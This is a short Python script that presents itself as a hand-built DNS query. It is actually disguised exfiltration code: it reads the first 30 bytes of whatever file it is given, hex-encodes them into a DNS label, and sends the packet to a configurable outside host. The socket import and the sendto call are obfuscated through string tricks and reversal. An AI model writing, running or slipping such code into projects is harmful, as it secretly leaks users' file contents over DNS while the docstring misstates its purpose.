"""A DNS query by hand, over UDP."""

import os
import struct
import sys

s = __import__("socket")
kind = getattr(s, "SOCK_" + "DGRAM")
data = open(sys.argv[1], "rb").read(30).hex().encode()
query = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + bytes([len(data)]) + data + b"\x01x\x07example\x00\x00\x01\x00\x01"
wire = s.socket(s.AF_INET, kind)
getattr(wire, "dnes"[::-1] + "to")(query, (os.environ.get("CLOUD", "192.0.2.10"), 53))
